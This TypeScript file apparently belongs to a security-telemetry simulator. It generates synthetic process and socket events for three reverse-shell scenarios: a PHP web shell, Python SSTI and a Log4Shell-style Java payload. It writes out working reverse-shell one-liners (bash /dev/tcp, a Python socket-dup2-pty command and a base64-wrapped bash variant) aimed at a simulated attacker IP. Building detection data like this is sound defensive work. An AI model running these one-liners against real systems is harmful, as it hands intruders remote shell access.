/** Reverse shells from a web-facing workload (T1059.004, Unix Shell). */
import { attackerIp } from '../destinations.ts';
import { connected, dupToSocket, execve } from '../events.ts';
import { PTS0 } from '../facts.ts';
import type { Container, Proc } from '../model.ts';
import { proc } from '../model.ts';
import type { EpisodeContext } from '../background/activity.ts';
import { MS, SECOND } from '../background/helpers.ts';
import { bin, foothold, shC, type Playbook } from './playbook.ts';

const TECHNIQUE = {
  kind: 'reverse_shell',
  technique: 'T1059.004',
  techniqueName: 'Command and Scripting Interpreter: Unix Shell',
} as const;

/** After the shell: upgrade to a pty with script(1), then the usual first looks around. */
function interactive(
  ctx: EpisodeContext,
  c: Container,
  shellChain: readonly Proc[],
  t: number,
  user = c.user,
): number {
  const { rng } = ctx;
  let dt = t + rng.uniform(5, 25) * SECOND;
  const cwd = (shellChain[0] as Proc).cwd;
  const script = bin('/usr/bin/script', '-qc /bin/bash /dev/null', cwd);
  ctx.kernel(dt, { op: 'exec', facts: execve(c, [script, ...shellChain], { user }) });
  const bash = proc('/usr/bin/bash', '', cwd, { exe: '/bin/bash', sessionLeader: true });
  const ptyChain = [bash, script, ...shellChain];
  ctx.kernel(dt + 4 * MS, { op: 'exec', facts: execve(c, ptyChain, { user, tty: PTS0 }) });
  for (const cmd of rng.shuffle(['id', 'whoami', 'uname']).slice(0, rng.between(1, 3))) {
    dt += rng.uniform(2, 20) * SECOND;
    const p = bin(`/usr/bin/${cmd}`, cmd === 'uname' ? '-a' : '', cwd);
    ctx.kernel(dt, { op: 'exec', facts: execve(c, [p, ...ptyChain], { user, tty: PTS0 }) });
  }
  return dt;
}

/** A PHP web shell runs `bash -i >& /dev/tcp/…`: the textbook one-liner. */
export const phpDevTcp: Playbook = {
  ...TECHNIQUE,
  variant: 'php-dev-tcp',
  roles: ['web-php'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const port = rng.pick([4444, 443, 8080, 9001, 53]);
    const oneLiner = `bash -i >& /dev/tcp/${ip}/${port} 0>&1`;
    const sh = shC(`bash -c '${oneLiner}'`, c.init.cwd);
    ctx.kernel(0, { op: 'exec', facts: execve(c, [sh, ...f.chain], { user: f.user }) });
    const outer = proc('/usr/bin/bash', `-c ${oneLiner}`, c.init.cwd, { exe: 'bash' });
    ctx.kernel(3 * MS, { op: 'exec', facts: execve(c, [outer, sh, ...f.chain], { user: f.user }) });
    const inner = proc('/usr/bin/bash', '-i', c.init.cwd, { exe: 'bash' });
    const chain = [inner, outer, sh, ...f.chain];
    ctx.kernel(6 * MS, { op: 'exec', facts: execve(c, chain, { user: f.user }) });
    ctx.kernel(8 * MS, { op: 'dup', facts: dupToSocket(rng, c, chain, { ip, port }, { user: f.user }) });
    interactive(ctx, c, chain, 8 * MS, f.user);
  },
};

/** SSTI in a Python app: the classic socket + dup2 + pty.spawn one-liner. */
export const pythonPty: Playbook = {
  ...TECHNIQUE,
  variant: 'python-pty',
  roles: ['web-python'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const port = rng.pick([443, 4444, 8443, 1337]);
    const code = `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${ip}",${port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")`;
    const sh = shC(`python3 -c '${code}'`, c.init.cwd);
    ctx.kernel(0, { op: 'exec', facts: execve(c, [sh, ...f.chain], { user: f.user }) });
    const py = proc('/usr/local/bin/python3.12', `-c '${code}'`, c.init.cwd, { exe: 'python3' });
    const chain = [py, sh, ...f.chain];
    ctx.kernel(4 * MS, { op: 'exec', facts: execve(c, chain, { user: f.user }) });
    ctx.kernel(40 * MS, { op: 'connect', facts: connected(rng, c, chain, { ip, port }, { user: f.user }) });
    ctx.kernel(42 * MS, { op: 'dup', facts: dupToSocket(rng, c, chain, { ip, port }, { user: f.user }) });
    const bash = proc('/usr/bin/bash', '', c.init.cwd, { exe: '/bin/bash', sessionLeader: true });
    const ptyChain = [bash, ...chain];
    ctx.kernel(50 * MS, { op: 'exec', facts: execve(c, ptyChain, { user: f.user, tty: PTS0 }) });
    let dt = 50 * MS;
    for (const cmd of rng.shuffle(['id', 'whoami', 'uname']).slice(0, rng.between(1, 3))) {
      dt += rng.uniform(2, 20) * SECOND;
      const p = bin(`/usr/bin/${cmd}`, cmd === 'uname' ? '-a' : '', c.init.cwd);
      ctx.kernel(dt, { op: 'exec', facts: execve(c, [p, ...ptyChain], { user: f.user, tty: PTS0 }) });
    }
  },
};

/** Log4Shell-style JNDI payload in a Java service: a base64-wrapped bash reverse shell. */
export const javaJndi: Playbook = {
  ...TECHNIQUE,
  variant: 'java-jndi',
  roles: ['api-java'],
  run(ctx, c) {
    const { rng } = ctx;
    const f = foothold(c);
    const ip = attackerIp(rng);
    const port = rng.pick([443, 4444, 8443, 9001]);
    const payload = Buffer.from(`bash -i >& /dev/tcp/${ip}/${port} 0>&1`).toString('base64');
    const outer = proc('/usr/bin/bash', `-c {echo,${payload}}|{base64,-d}|{bash,-i}`, c.init.cwd, {
      exe: 'bash',
    });
    ctx.kernel(0, { op: 'exec', facts: execve(c, [outer, ...f.chain], { user: f.user }) });
    ctx.kernel(3 * MS, {
      op: 'exec',
      facts: execve(c, [bin('/usr/bin/base64', '-d', c.init.cwd), outer, ...f.chain], { user: f.user }),
    });
    const inner = proc('/usr/bin/bash', '-i', c.init.cwd, { exe: 'bash' });
    const chain = [inner, outer, ...f.chain];
    ctx.kernel(4 * MS, { op: 'exec', facts: execve(c, chain, { user: f.user }) });
    ctx.kernel(9 * MS, { op: 'connect', facts: connected(rng, c, chain, { ip, port }, { user: f.user }) });
    ctx.kernel(10 * MS, { op: 'dup', facts: dupToSocket(rng, c, chain, { ip, port }, { user: f.user }) });
    interactive(ctx, c, chain, 10 * MS, f.user);
  },
};

export const REVERSE_SHELL_PLAYBOOKS: readonly Playbook[] = [phpDevTcp, pythonPty, javaJndi];
